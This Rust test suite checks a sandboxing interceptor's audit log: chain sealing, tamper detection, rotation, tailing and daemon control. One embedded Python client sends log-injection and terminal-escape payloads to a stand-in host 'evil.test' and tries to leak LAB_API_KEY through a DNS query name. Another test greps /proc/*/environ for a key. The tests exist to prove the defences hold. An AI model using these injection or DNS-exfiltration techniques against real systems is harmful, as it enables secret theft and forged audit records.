//! The audit stream over its whole life: sealed, rotated, attacked with hostile names, followed,
//! counted, and queried from the daemon.

use std::fs;
use std::io::{BufRead, BufReader, Write};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Output, Stdio};
use std::time::{Duration, Instant};

use interceptor_tests::Lab;
use interceptor_tests::client::fetch::Plan;
use interceptor_tests::sandbox::binary;
use nix::sys::signal::Signal;
use serde_json::{Value, json};

const HOST: &str = "api.example.test";
/// A bound against hanging.
const PATIENCE: Duration = Duration::from_secs(60);

/// Runs the interceptor to its end.
fn interceptor(arguments: &[&str]) -> Output {
    let mut command = Command::new(binary("interceptor"));
    command.args(arguments).env("NO_COLOR", "1").stdin(Stdio::null()).output().unwrap()
}

#[track_caller]
fn out(arguments: &[&str]) -> String {
    let output = interceptor(arguments);
    let error = String::from_utf8_lossy(&output.stderr);
    assert!(output.status.success(), "{arguments:?}: {} {error}", output.status);
    String::from_utf8(output.stdout).unwrap()
}

/// The audit files of the lab's runs, oldest first.
fn audit_files(lab: &Lab) -> Vec<String> {
    let entries = fs::read_dir(lab.directory()).unwrap().map(|entry| entry.unwrap().path());
    let mut files: Vec<PathBuf> =
        entries.filter(|path| path.extension().is_some_and(|name| name == "jsonl")).collect();
    files.sort();
    files.into_iter().map(|path| path.display().to_string()).collect()
}

fn chain_key(lab: &Lab) -> String {
    lab.secret_file("chain.key", &lab.another_key().repeat(2)).display().to_string()
}

#[test]
fn o4_a_sealed_audit_file_verifies_and_tampering_is_named() {
    Lab::test(|lab| {
        // The canary oracle looks for the chain's key too: in the sandbox, the logs and the audit
        // file.
        let key = chain_key(lab);
        let policy = lab.governed(HOST, json!([{ "methods": ["GET"], "paths": ["/v1/*"] }]));
        let plan = Plan::https(HOST, "http/1.1")
            .ask("GET", "/v1/a")
            .ask("DELETE", "/v1/b")
            .ask("GET", "/v1/c");
        let sandbox = lab.sandbox(&policy).at_origin(HOST).option("--audit-chain").option(&key);
        let (_, outcome) = sandbox.fetch_outcome(&plan);
        assert!(outcome.audit.iter().all(|record| record.mac.is_some()));
        let [file] = audit_files(lab).try_into().unwrap();
        let whole = out(&["audit", "verify", "--key", &key, "--expect-end", &file]);
        assert!(whole.starts_with(&format!("OK: {} records", outcome.audit.len())), "{whole}");

        let text = fs::read_to_string(&file).unwrap();
        let number =
            1 + text.lines().position(|line| line.contains(r#""decision":"deny""#)).unwrap();
        let copy = lab.directory().join("copy");
        let verify = |text: &str| {
            fs::write(&copy, text).unwrap();
            let output =
                interceptor(&["audit", "verify", "--json", "--key", &key, copy.to_str().unwrap()]);
            assert_eq!(output.status.code(), Some(1), "{output:?}");
            serde_json::from_slice::<Value>(&output.stdout).unwrap()
        };
        let forged = text.replacen(r#""decision":"deny""#, r#""decision":"allow""#, 1);
        let found = verify(&forged);
        assert_eq!((&found["line"], &found["whole"]), (&json!(number), &json!(false)));
        let removed: String = text
            .split_inclusive('\n')
            .enumerate()
            .filter(|(at, _)| at + 1 != number)
            .map(|(_, line)| line)
            .collect();
        let found = verify(&removed);
        assert_eq!(found["line"], number);
        assert!(found["message"].as_str().unwrap().contains("missing"), "{found}");
        let output = interceptor(&[
            "audit",
            "verify",
            "--key",
            &lab.key_file().display().to_string(),
            &file,
        ]);
        assert_ne!(output.status.code(), Some(0), "another key");
    });
}

#[test]
fn o4_the_chains_key_cannot_be_read_inside() {
    Lab::test(|lab| {
        let key = chain_key(lab);
        let sandbox = lab.sandbox(&json!({})).user("root").option("--audit-chain").option(&key);
        let outcome = sandbox.shell(&format!(
            "cat {key} 2>/dev/null | wc -c; cat /proc/*/environ | grep -c {key}; true"
        ));
        assert_eq!(outcome.success().out(), "0\n0\n");
    });
}

#[test]
fn a_rotated_file_is_opened_anew_on_sighup_and_the_chain_goes_on() {
    Lab::test(|lab| {
        let key = chain_key(lab);
        let sandbox = lab.sandbox(&json!({ "network": { "deny": ["*"] } })).bare().open_stdin();
        let script = "trap 'echo hung up' HUP
            read line; curl -s -o /dev/null http://before.test/; \
                      echo before
            while ! read line; do :; done; curl -s -o /dev/null http://after.test/; \
                      echo after";
        let mut running = sandbox.option("--audit-chain").option(&key).start(&["sh", "-c", script]);
        running.write(b"\n");
        running.wait_for("before");
        let [file] = audit_files(lab).try_into().unwrap();
        let rotated = format!("{file}.1");
        // The record of the request: that of the look-up before it names the host too.
        wait_until(|| fs::read_to_string(&file).unwrap().contains("\"method\":\"GET\""));
        fs::rename(&file, &rotated).unwrap();
        running.signal(Signal::SIGHUP);
        wait_until(|| Path::new(&file).exists());
        running.write(b"\n");
        running.wait_for("after");
        let outcome = running.finish();
        assert!(
            outcome.out().contains("hung up"),
            "the command did not hear the signal: {}",
            outcome.out()
        );
        let (old, new) =
            (fs::read_to_string(&rotated).unwrap(), fs::read_to_string(&file).unwrap());
        assert!(old.contains("before.test") && !old.contains("after.test"));
        assert!(new.contains("after.test") && !new.contains("\"before.test"));
        let whole = out(&["audit", "verify", "--key", &key, "--expect-end", &rotated, &file]);
        assert!(whole.starts_with("OK: "), "{whole}");
        let alone = out(&["audit", "verify", "--key", &key, &file]);
        assert!(alone.contains("continues from record"), "{alone}");
        let output = interceptor(&["audit", "verify", "--key", &key, &file, &rotated]);
        assert_eq!(output.status.code(), Some(1), "the wrong order: {output:?}");
    });
}

#[track_caller]
fn wait_until(mut what: impl FnMut() -> bool) {
    let deadline = Instant::now() + PATIENCE;
    while !what() {
        assert!(Instant::now() < deadline, "it never came to pass");
        std::thread::sleep(Duration::from_millis(10));
    }
}

/// A ClientHello and a DNS query with arbitrary bytes as the name.
const HOSTILE_CLIENT: &str = r#"
import os, socket, struct
evil = b'x\n{"decision":"allow"}\x1b[2J\xe2\x80\xae\x9b31m'
def http(head):
    s = socket.create_connection(('evil.test', 80), 10); s.settimeout(10); s.sendall(head)
    try:
        while s.recv(65536): pass
    except OSError: pass
path = evil.replace(b'\n', b'%0a').replace(b' ', b'')
http(b'GET /' + path + b' HTTP/1.1\r\nHost: evil.test\r\n\r\n')
http(b'GET /%1b%5b2J%0a%E2%80%AE HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n')
http(b'G\x1b[2JT / HTTP/1.1\r\nHost: evil.test\r\n\r\n')
http(b'GE!T\'*` / HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n')
http(b'GET / HTTP/1.1\r\nHost: ' + evil.replace(b'\n', b'') + b'\r\n\r\n')
http(b'GET / HTTP/1.1\r\nHost: evil.test\r\nX: a\n\x1b[2J{"decision":"allow"}\r\n\r\n')
def label(text): return bytes([len(text)]) + text
# A name that no host can have is answered without a record, unless it smuggles a placeholder out.
leak = label(os.environ['LAB_API_KEY'].encode())
query = (struct.pack('>6H', 7, 0x100, 1, 0, 0, 0) + label(evil) + leak + label(b'test') + b'\0'
         + struct.pack('>2H', 1, 1))
u = socket.socket(type=socket.SOCK_DGRAM); u.settimeout(5); u.sendto(query, ('9.9.9.9', 53))
try: u.recv(512)
except OSError: pass
def two(b): return struct.pack('>H', len(b)) + b
name = two(b'\0' + two(evil + b'.test'))
extensions = two(b'\0\0' + two(name) + b'\0\x0a' + two(two(b'\0\x1d')) + b'\0\x0d'
                 + two(two(b'\x04\x03')) + b'\0\x2b' + two(b'\x02\x03\x04'))
hello = b'\x03\x03' + bytes(32) + b'\0' + two(b'\x13\x01') + b'\x01\0' + extensions
t = socket.create_connection(('evil.test', 443), 10); t.settimeout(10)
t.sendall(b'\x16\x03\x01' + two(b'\x01\0' + two(hello)))
try:
    while t.recv(65536): pass
except OSError: pass
print('done')
"#;

#[test]
fn o2_no_name_path_method_or_server_name_reaches_the_terminal_unescaped() {
    Lab::test(|lab| {
        let policy = lab.governed(HOST, json!([]));
        let outcome = lab.sandbox(&policy).quiet_log().python(HOSTILE_CLIENT);
        assert_eq!(outcome.success().out(), "done\n");
        assert!(
            outcome
                .audit
                .iter()
                .filter(|record| record.decision.as_deref() == Some("deny"))
                .count()
                >= 6
        );
        assert!(outcome.requests("allow").is_empty());
        let [file] = audit_files(lab).try_into().unwrap();
        let tail = out(&["audit", "tail", &file, "--no-follow", "-n", "1000"]);
        assert_eq!(tail.lines().count(), outcome.audit.len(), "{tail}");
        let stats = out(&["audit", "stats", &file]);
        let verbatim = out(&["audit", "tail", &file, "--no-follow", "-n", "1000", "--json"]);
        for shown in [&tail, &stats, &verbatim] {
            let steering = |c: char| {
                (c.is_control() && c != '\n')
                    || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
            };
            assert!(!shown.chars().any(steering), "{shown:?}");
        }
        // Some hostile text must reach a record, or the test proves nothing.
        assert!(verbatim.contains(r#"x\n{\"decision\":\"allow\"}\u001b[2J\u202e"#), "{verbatim}");
        assert!(tail.contains(r#"x\u{a}{"decision":"allow"}\u{1b}[2J\u{202e}"#), "{tail}");
        assert!(stats.contains(r#"x\u{a}{"decision":"allow"}\u{1b}[2J\u{202e}"#), "{stats}");
        assert!(verbatim.lines().all(|line| serde_json::from_str::<Value>(line).is_ok()));
        assert_eq!(verbatim.lines().count(), outcome.audit.len());
    });
}

#[test]
fn stats_report_who_was_denied_what_and_how_often() {
    Lab::test(|lab| {
        let policy = lab.governed(HOST, json!([{ "methods": ["GET"], "paths": ["/v1/*"] }]));
        let mut plan = Plan::https(HOST, "http/1.1");
        for number in 0..5 {
            plan = plan.ask("DELETE", &format!("/v1/files/file-{number}abcdef"));
        }
        let (_, outcome) =
            lab.sandbox(&policy).at_origin(HOST).fetch_outcome(&plan.ask("GET", "/v1/models"));
        let [file] = audit_files(lab).try_into().unwrap();
        let stats: Value =
            serde_json::from_str(&out(&["audit", "stats", "--json", "--kind", "request", &file]))
                .unwrap();
        let first = &stats["rows"][0];
        assert_eq!((&first["count"], &first["decision"]), (&json!(5), &json!("deny")), "{stats}");
        assert_eq!(
            (&first["type"], &first["path"]),
            (&json!("endpoint_denied"), &json!("/v1/files/*"))
        );
        assert_eq!((&first["host"], &first["method"]), (&json!(HOST), &json!("DELETE")));
        assert_eq!(first["sandbox"], outcome.audit[0].sandbox);
        let shown = out(&[
            "audit",
            "tail",
            &file,
            "--no-follow",
            "--decision",
            "deny",
            "--kind",
            "request",
        ]);
        assert_eq!(shown.lines().count(), 5);
        assert!(
            shown.contains(&format!("DELETE {HOST}/v1/files/file-0abcdef 403 endpoint_denied")),
            "{shown}"
        );
    });
}

/// A program that ends with the test.
struct Ended(Child);

impl Drop for Ended {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

#[test]
fn tail_follows_a_file_over_a_rotation() {
    let folder = tempfile::tempdir().unwrap();
    let file = folder.path().join("audit.jsonl");
    let line = |path: &str| {
        format!("{{\"ts\":\"t\",\"kind\":\"request\",\"decision\":\"deny\",\"path\":\"{path}\"}}\n")
    };
    fs::write(&file, line("/1")).unwrap();
    let mut command = Command::new(binary("interceptor"));
    command.args(["audit", "tail"]).arg(&file).stdout(Stdio::piped());
    let mut tail = Ended(command.spawn().unwrap());
    let mut shown = BufReader::new(tail.0.stdout.take().unwrap()).lines();
    let mut next = || shown.next().unwrap().unwrap();
    assert!(next().ends_with("/1"));
    let append = |path: &Path, text: &str| {
        let file = fs::OpenOptions::new().append(true).create(true).open(path);
        file.unwrap().write_all(text.as_bytes()).unwrap();
    };
    append(&file, &line("/2"));
    assert!(next().ends_with("/2"));
    let rotated = folder.path().join("audit.jsonl.1");
    fs::rename(&file, &rotated).unwrap();
    append(&rotated, &line("/3"));
    append(&file, &line("/4"));
    assert!(next().ends_with("/3"));
    assert!(next().ends_with("/4"));
}

/// A private cgroup, and a daemon with its socket in the test's directory.
struct Daemon {
    child: Child,
    cgroup: PathBuf,
    socket: String,
}

impl Daemon {
    fn start(lab: &Lab, audit: &Path, key: &str) -> Daemon {
        let mounts = fs::read_to_string("/proc/mounts").unwrap();
        let fields = mounts.lines().map(|line| line.split(' ').collect::<Vec<_>>());
        let mount = fields.into_iter().find(|fields| fields[2] == "cgroup2").unwrap()[1].to_owned();
        let cgroup = Path::new(&mount).join(format!("ctl-test-{}", std::process::id()));
        fs::create_dir(&cgroup).unwrap();
        let socket = lab.directory().join("control.sock").display().to_string();
        let mut command = Command::new(binary("interceptor"));
        command.args(["serve", "--control", &socket, "--audit-chain", key, "--audit"]).arg(audit);
        command.args(["--trust-dir", lab.directory().join("trust").to_str().unwrap()]);
        command.stdout(Stdio::piped()).stdin(Stdio::null());
        let mut daemon = Daemon { child: command.spawn().unwrap(), cgroup, socket };
        let mut line = String::new();
        BufReader::new(daemon.child.stdout.as_mut().unwrap()).read_line(&mut line).unwrap();
        assert!(line.contains(&daemon.socket), "not ready: {line:?}");
        daemon
    }

    /// What a process in the cgroup prints.
    fn shell(&self, script: &str) -> String {
        let script = format!("echo $$ > {}/cgroup.procs; {script}", self.cgroup.display());
        let output =
            Command::new("sh").args(["-c", &script]).stdin(Stdio::null()).output().unwrap();
        String::from_utf8_lossy(&output.stdout).into_owned()
    }

    fn arguments<'a>(&'a self, arguments: &[&'a str]) -> Vec<&'a str> {
        [arguments, &["--control", &self.socket]].concat()
    }

    #[track_caller]
    fn out(&self, arguments: &[&str]) -> String {
        out(&self.arguments(arguments))
    }
}

impl Drop for Daemon {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
        let _ = fs::remove_dir(&self.cgroup);
    }
}

#[test]
fn ctl_makes_shows_changes_and_removes_sandboxes_of_the_real_daemon() {
    Lab::test(|lab| {
        let (key, audit) = (chain_key(lab), lab.directory().join("daemon.log"));
        let mut daemon = Daemon::start(lab, &audit, &key);
        assert!(daemon.out(&["ctl", "health"]).starts_with("ok: version "));
        assert_eq!(daemon.out(&["ctl", "sandboxes"]), "no sandboxes\n");
        let policy = lab.secret_file("p.json", &lab.governed(HOST, json!([])).to_string());
        let cgroup = daemon.cgroup.display().to_string();
        let create = ["ctl", "sandboxes", "create", "--id", "web", "--cgroup", &cgroup, "--policy"];
        let created = daemon.out(&[&create[..], &[policy.to_str().unwrap(), "--json"]].concat());
        let created: Value = serde_json::from_str(&created).unwrap();
        assert_eq!(created["id"], "web");
        assert!(created["ca_pem"].as_str().unwrap().contains("BEGIN CERTIFICATE"));
        assert!(created["env"]["LAB_API_KEY"].is_string(), "{created}");

        // A refusal is reported with its reason and position, and the status is 1.
        let refused = |arguments: &[&str], expected: &[&str]| {
            let output = interceptor(&daemon.arguments(arguments));
            let error = String::from_utf8_lossy(&output.stderr).into_owned();
            assert_eq!(output.status.code(), Some(1), "{arguments:?}: {error}");
            assert!(expected.iter().all(|text| error.contains(text)), "{error}");
        };
        refused(
            &[&create[..], &[policy.to_str().unwrap()]].concat(),
            &["the daemon refused", "(409)", "already exists: remove it first"],
        );
        refused(
            &["ctl", "sandboxes", "show", "../none?"],
            &["no sandbox \"../none?\"; see: interceptor ctl sandboxes"],
        );
        let wrong =
            lab.secret_file("wrong.json", r#"{ "network": { "allow": [""], "alow": [] } }"#);
        let put = ["ctl", "policy", "put", "web", wrong.to_str().unwrap()];
        refused(&put, &["(422)", "/network/allow/0: ", "/network/alow"]);

        assert!(daemon.shell("curl -s http://denied.test/first").contains("host_denied"));
        let list = daemon.out(&["ctl", "sandboxes", "list"]);
        assert!(
            list.lines().count() == 2 && list.contains("web") && list.contains(&cgroup),
            "{list}"
        );
        let shown = daemon.out(&["ctl", "policy", "get", "web"]);
        assert!(shown.contains(HOST) && !shown.contains(lab.key()), "{shown}");
        let kept = daemon.out(&[
            "audit",
            "tail",
            "--sandbox",
            "web",
            "--since",
            "1h",
            "--no-follow",
            "--decision",
            "deny",
        ]);
        assert!(kept.contains("GET denied.test/first 403 host_denied"), "{kept}");
        let stats =
            daemon.out(&["audit", "stats", "--sandbox", "web", "--kind", "request", "--json"]);
        let stats: Value = serde_json::from_str(&stats).unwrap();
        assert_eq!(
            (&stats["rows"][0]["host"], &stats["rows"][0]["count"]),
            (&json!("denied.test"), &json!(1))
        );

        // From standard input, so that no file needs to hold a key.
        let mut command = Command::new(binary("interceptor"));
        command.args(daemon.arguments(&["ctl", "policy", "put", "web", "-", "--close"]));
        let mut child = command.stdin(Stdio::piped()).stdout(Stdio::piped()).spawn().unwrap();
        child
            .stdin
            .take()
            .unwrap()
            .write_all(br#"{ "network": { "deny": ["other.test"], "allow": ["x.test"] } }"#)
            .unwrap();
        let output = child.wait_with_output().unwrap();
        assert!(output.status.success(), "{output:?}");
        assert!(daemon.out(&["ctl", "policy", "get", "web"]).contains("x.test"));

        // Follows events live.
        let mut follow = Command::new(binary("interceptor"));
        follow
            .args(daemon.arguments(&["ctl", "audit", "web", "--kind", "request"]))
            .stdout(Stdio::piped());
        let mut follow = Ended(follow.spawn().unwrap());
        let lines = BufReader::new(follow.0.stdout.take().unwrap()).lines();
        let deadline = Instant::now() + PATIENCE;
        let followed = std::thread::scope(|scope| {
            // What is kept comes first.
            let second = |line: &String| line.contains("denied.test/second");
            let first = scope.spawn(move || lines.map(Result::unwrap).find(second).unwrap());
            // It must be following by then, so repeat requests until it reports one.
            while !first.is_finished() && Instant::now() < deadline {
                daemon.shell("curl -s http://denied.test/second");
            }
            first.join().unwrap()
        });
        assert!(
            followed.contains("deny  request    web GET denied.test/second 403 host_denied"),
            "{followed}"
        );

        for (what, expected) in [
            ("profiles", "claude-code"),
            ("services", "OPENAI_API_KEY"),
            ("metrics", "# TYPE"),
            ("openapi", "\"3.1."),
        ] {
            assert!(
                daemon.out(&["ctl", what]).contains(expected),
                "{what}: {}",
                daemon.out(&["ctl", what])
            );
        }
        assert_eq!(daemon.out(&["ctl", "sandboxes", "delete", "web"]), "web: removed\n");
        refused(&["ctl", "sandboxes", "delete", "web"], &["no sandbox \"web\""]);

        nix::sys::signal::kill(
            nix::unistd::Pid::from_raw(daemon.child.id().cast_signed()),
            Signal::SIGTERM,
        )
        .unwrap();
        assert!(daemon.child.wait().unwrap().success());
        let whole =
            out(&["audit", "verify", "--key", &key, "--expect-end", audit.to_str().unwrap()]);
        assert!(whole.starts_with("OK: "), "{whole}");
        assert!(!fs::read_to_string(&audit).unwrap().contains(lab.key()));
    });
}
